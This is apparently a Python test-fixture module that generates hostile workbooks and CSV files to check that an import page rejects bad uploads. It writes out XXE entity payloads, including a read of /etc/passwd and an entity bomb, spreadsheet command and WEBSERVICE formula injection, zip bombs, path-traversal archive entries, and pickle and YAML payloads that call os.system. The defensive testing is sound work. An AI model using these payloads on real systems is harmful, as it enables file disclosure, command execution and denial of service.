"""Hostile workbooks and texts for the import page by name, each a (file name, bytes) made when it is asked for."""

from __future__ import annotations

from collections.abc import Callable

from tests.safety.archives import (
    HEADING,
    HONEST,
    LINK,
    MAIN,
    OFFICE,
    PACKAGE,
    PARTS,
    SHEET,
    flags,
    inline,
    lying,
    overlapping,
    packed,
    png,
    rows_xml,
    sheet,
    with_cell,
    workbook,
)

File = tuple[str, bytes]
Maker = Callable[[], File]
BOMB = '<!DOCTYPE x [<!ENTITY a "ha">{}]>'
LOL = "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))


def named(kind: str, ending: str, made: dict[str, Callable[[], bytes]]) -> dict[str, Maker]:
    """Makers under `kind: name`."""
    return {f"{kind}: {name}": lambda make=make: (f"x.{ending}", make()) for name, make in made.items()}


def excel(web: str) -> dict[str, Maker]:
    """Workbooks; `web` is an address that nobody may knock at."""
    many = rows_xml([HEADING]) + rows_xml([HONEST]) * 5_001
    entities = {
        "entity bomb": (BOMB.format(LOL), "<t>&j;</t>"),
        "outside entity": (f'<!DOCTYPE x [<!ENTITY e SYSTEM "{web}">]>', "<t>&e;</t>"),
        "file entity": ('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', "<t>&e;</t>"),
        "parameter entity": (f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{web}">%p;]>', "<t>x</t>"),
        "outside DTD": (f'<!DOCTYPE worksheet SYSTEM "{web}">', "<t>x</t>"),
        "style sheet": (f'<?xml-stylesheet href="{web}"?>', "<t>x</t>"),
        "XInclude": ("", f'<t><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{web}"/></t>'),
    }
    made: dict[str, Callable[[], bytes]] = {
        name: lambda before=before, text=text: workbook(
            rows_xml([HEADING]) + f'<row><c t="inlineStr"><is>{text}</is></c></row>', before=before
        )
        for name, (before, text) in entities.items()
    }
    cells = {
        "formula": '<c t="str"><f>1+1</f><v>=1+1</v></c>',
        "command formula": "<c><f>cmd|' /C calc'!A0</f><v>0</v></c>",
        "web formula": f'<c t="str"><f>WEBSERVICE("{web}")</f><v>x</v></c>',
        "link formula": f'<c t="str"><f>HYPERLINK("{web}","x")</f><v>x</v></c>',
        "error cell": '<c t="e"><v>#REF!</v></c>',
        "NaN cell": "<c><v>NaN</v></c>",
        "endless number": "<c><v>1e999999999</v></c>",
        "long number": f"<c><v>{'9' * 100_000}</v></c>",
        "shared string out of reach": '<c t="s"><v>4000000000</v></c>',
        "negative shared string": '<c t="s"><v>-1</v></c>',
        "boolean of nonsense": '<c t="b"><v>maybe</v></c>',
        "date of the year 9999999": '<c t="d"><v>9999999-99-99T99:99:99</v></c>',
        "cell far away": '<c r="XFD1048576"><v>1</v></c>',
        "cell out of the sheet": '<c r="ZZZZZZ99999999999"><v>1</v></c>',
        "cell before the sheet": '<c r="A0"><v>1</v></c>',
        "huge cell": inline("字" * 400_000),
        "escaped control": inline("a_x0000_b_x0001_"),
        "script": inline("<script>alert(1)</script>"),
        "bidi": inline("abc\u202edcba\u2066"),
        "deep inline": '<c t="inlineStr">' + "<is>" * 20_000 + "</is>" * 20_000 + "</c>",
    }
    made |= {name: lambda cell=cell: with_cell(cell) for name, cell in cells.items()}
    made |= {
        "5,001 exercises": lambda: workbook(many),
        "20,001 rows": lambda: workbook(rows_xml([HEADING]) + "<row/>" * 20_000 + rows_xml([HONEST])),
        "1,025 columns": lambda: workbook(rows_xml([[*HEADING, *["x"] * 1_019]])),
        "16,384 columns": lambda: workbook(rows_xml([["x"] * 16_384])),
        "unpacks to 150 MB": lambda: workbook(rows_xml([HEADING]) + "<row></row>" * 14_000_000),
        "zip bomb beside the sheet": lambda: workbook(bomb=bytes(120 * 2**20)),
        "bomb that lies": lambda: lying(workbook(bomb=bytes(60 * 2**20)), size=10),
        "sheet that lies": lambda: lying(workbook(rows_xml([HEADING]) + "<row></row>" * 9_000_000), size=100),
        "members one over another": lambda: overlapping(1_900),
        "2,001 members": lambda: packed({**PARTS, SHEET: sheet(""), **{f"xl/{n}": b"" for n in range(2_001)}}),
        "path upward": lambda: packed({**PARTS, SHEET: sheet(""), "../../../tmp/x": b"x"}),
        "path upward, backslash": lambda: packed({**PARTS, SHEET: sheet(""), "..\\..\\x": b"x"}),
        "absolute path": lambda: packed({**PARTS, SHEET: sheet(""), "/etc/cron.d/x": b"x"}),
        "drive path": lambda: packed({**PARTS, SHEET: sheet(""), "C:/x": b"x"}),
        "link": lambda: packed({**PARTS, SHEET: "/etc/passwd"}, modes={SHEET: LINK}),
        "encrypted": lambda: flags(workbook(), flag=1),
        "unknown method": lambda: flags(workbook(), method=99),
        "cut short": lambda: workbook()[:-40],
        "cut in the middle": lambda: workbook()[: len(workbook()) // 2],
        "head only": lambda: workbook()[:30],
        "directory of noise": lambda: b"PK\x03\x04" + bytes(range(256)) * 8,
        "wrong checksum": lambda: workbook().replace(
            b"PK\x01\x02\x14\x00\x14\x00\x00\x00\x08\x00\x00\x00!\x00",
            b"PK\x01\x02\x14\x00\x14\x00\x00\x00\x08\x00\x00\x00!\x01",
        ),
        "zip in a zip in a zip": lambda: packed({"x.xlsx": packed({"x.xlsx": workbook()})}),
        "not a workbook": lambda: packed({"readme.txt": b"x"}),
        "no sheet": lambda: packed(PARTS),
        "no XML": lambda: packed({**PARTS, SHEET: b"\x00\x01\x02" * 500}),
        "unclosed XML": lambda: packed({**PARTS, SHEET: f'<worksheet xmlns="{MAIN}"><sheetData><row><c>'}),
        "XML in UTF-16": lambda: packed({**PARTS, SHEET: sheet("<row/>").encode("utf-16")}),
        "XML in UTF-7": lambda: workbook(before='<?xml version="1.0" encoding="UTF-7"?>'),
        "deep XML": lambda: workbook("<row>" * 300_000 + "</row>" * 300_000),
        "many attributes": lambda: workbook("<row " + " ".join(f'a{n}="1"' for n in range(60_000)) + "/>"),
        "sheet from the web": lambda: packed({**PARTS, SHEET: sheet(""), "xl/_rels/workbook.xml.rels": outside(web)}),
        "same member twice": lambda: doubled(),
        "macro sheet": lambda: workbook(xl__vbaProject="x"),
        "outside links": lambda: workbook(xl__externalLinks__externalLink1="x", xl__connections=f"<x url='{web}'/>"),
        "old Office, empty": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504),
        "old Office, a chain in a ring": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00\x00\x00\x01" * 400,
        "picture that is a zip": lambda: png(1, 1) + workbook(),
        "zip with a tail of noise": lambda: workbook() + b"x" * 70_000,
        "999 sheets": lambda: sheets(999),
    }
    return named("Excel", "xlsx", made)


def outside(web: str) -> str:
    return (
        f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="r1" Type="{OFFICE}/worksheet"'
        f' Target="{web}" TargetMode="External"/></Relationships>'
    )


def doubled() -> bytes:
    """Two sheets under one name."""
    return packed({**PARTS, SHEET: sheet(rows_xml([HEADING, HONEST])), SHEET.upper(): sheet("<row>")}).replace(
        SHEET.upper().encode(), SHEET.encode()
    )


def sheets(count: int) -> bytes:
    listed = "".join(f'<sheet name="s{n}" sheetId="{n}" r:id="r1"/>' for n in range(1, count + 1))
    book = f'<workbook xmlns="{MAIN}" xmlns:r="{OFFICE}"><sheets>{listed}</sheets></workbook>'
    return packed({**PARTS, "xl/workbook.xml": book, SHEET: sheet(rows_xml([HEADING, HONEST]))})


def table(*rows: tuple[str, ...]) -> bytes:
    return "\n".join(",".join(row) for row in (HEADING, *rows)).encode("utf-8", "surrogatepass")


def stem(text: str) -> bytes:
    return table(('"' + text.replace('"', '""') + '"', *HONEST[1:]))


def csv(web: str) -> dict[str, Maker]:
    """Texts that call themselves a table."""
    stems = {
        "formula": '=HYPERLINK("' + web + '")',
        "command": "=cmd|' /C calc'!A0",
        "at": "@SUM(1)",
        "plus": "+1+cmd",
        "tab": "\t=1+1",
        "script": "<script>alert(1)</script>",
        "picture": f"![x]({web})",
        "link": f"[x]({web})",
        "null": "a\x00b",
        "bell": "a\x07\x1b[31mb",
        "half surrogate": "a\ud800b",
        "bidi": "a\u202eb\u2066c",
        "not a sign": "a\ufffe\uffffb",
        "combining marks": "a" + "\u0301" * 20_000,
        "zero width": "\u200b" * 5_000 + "a",
        "deep brackets": "(" * 30_000,
        "deep quotes": ">" * 20_000 + "a",
        "deep lists": "- " * 20_000 + "a",
        "stars": "*" * 60_000,
        "stars and words": "*a **b " * 8_000,
        "ticks": "`" * 60_000,
        "backslashes": "\\" * 60_000,
        "dollars": "$" * 30_001,
        "dollars and words": "$a" * 20_000,
        "deep formula": f"${'{' * 400}x{'}' * 400}$",
        "long formula": f"${'x+' * 20_000}1$",
        "roots": f"${chr(92)}sqrt{{".replace("{{", "{") * 200 + "}" * 200 + "$",
        "endless fractions": "$" + "\\frac{1}{" * 300 + "1" + "}" * 300 + "$",
        "gaps": "____ " * 9_000,
        "figures": "[[circle 1/2]]" * 3_000,
        "huge figure": "[[circle 1/999999999]]",
        "huge line": "[[line 0 1e9 1]]",
        "wide table": "|a" * 3_000 + "|\n" + "|-" * 3_000 + "|\n" + ("|b" * 3_000 + "|\n") * 3,
        "unclosed notation": "[[" * 30_000,
        "brackets": "（" * 20_000 + " " * 20_000,
        "uline": "~\\uline{" + "_~ " * 15_000,
        "template": "{{ config }}{% for x in range(10**9) %}x{% endfor %}",
        "format": "{0.__class__}{names}%s%n",
    }
    labels = {
        "NaN minutes": ("1+1", "2", "数学", "3", "基础", "nan"),
        "endless minutes": (*HONEST[:5], "inf"),
        "huge minutes": (*HONEST[:5], "1e308"),
        "huger minutes": (*HONEST[:5], "1e999999999"),
        "minus minutes": (*HONEST[:5], "-5"),
        "huge answer": ("1+1", "1e999999999", *HONEST[2:]),
        "unknown subject": ("1+1", "2", "炼金术", *HONEST[3:]),
        "grade 99": ("1+1", "2", "数学", "0", "基础", "2"),
        "unknown tier": ("1+1", "2", "数学", "3", "x" * 5_000, "2"),
        "superscript answer": ("1+1", "²", *HONEST[2:]),
        "long answer": ("1+1", "2|" * 30_000, *HONEST[2:]),
    }
    made: dict[str, Callable[[], bytes]] = {
        f"text of {name}": lambda text=text: stem(text) for name, text in stems.items()
    }
    made |= {name: lambda row=row: table(row) for name, row in labels.items()}
    long_names = (
        "题干,答案,来源,标签,知识点,设计意图,id\n1+1,2," + ",".join(["长" * 9_000] * 4) + ",../../etc"
    ).encode()
    made |= {
        "empty": lambda: b"",
        "blank": lambda: b" \n\n\t\n",
        "one sign": lambda: b"x",
        "bytes": lambda: bytes(range(256)) * 99,
        "nulls": lambda: b"\x00" * 5_000,
        "no heading": lambda: b"a,b\n1,2",
        "heading only": lambda: table(),
        "heading of quotes": lambda: b'"' * 50_001,
        "unclosed quote": lambda: b'"' + stem("x"),
        "5,001 exercises": lambda: table(*[(f"{n}+1", *HONEST[1:]) for n in range(5_001)]),
        "20,001 rows": lambda: table() + b"\n" * 20_001 + b"1",
        "one line of 9 MB": lambda: b"a," * 4_500_000,
        "huge cell": lambda: stem("字" * 70_000),
        "broken UTF-8": lambda: table(HONEST) + b"\xff\xfe\xfd",
        "UTF-16 without its second half": lambda: b"\xff\xfea\x00b",
        "UTF-32": lambda: table(HONEST).decode().encode("utf-32"),
        "UTF-7": lambda: "题干,答案\n+ADw-script+AD4-,1".encode("utf-7"),
        "EBCDIC": lambda: b"stem,answer\n1,2".decode().encode("cp037"),
        "GB18030 cut": lambda: table(HONEST).decode().encode("gb18030")[:-1],
        "long names": lambda: long_names,
        "columns named alike": lambda: ("题干," * 500 + "\n" + "x," * 500).encode(),
        "PDF": lambda: b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>",
        "program": lambda: b"\x7fELF" + bytes(2_000),
        "page": lambda: b"<html><script>alert(1)</script></html>",
        "pickle": lambda: b"cos\nsystem\n(S'id'\ntR.",
        "YAML object": lambda: b"!!python/object/apply:os.system ['id']",
        "gzip": lambda: b"\x1f\x8b\x08\x00" + bytes(500),
    }
    return named("CSV", "csv", made)
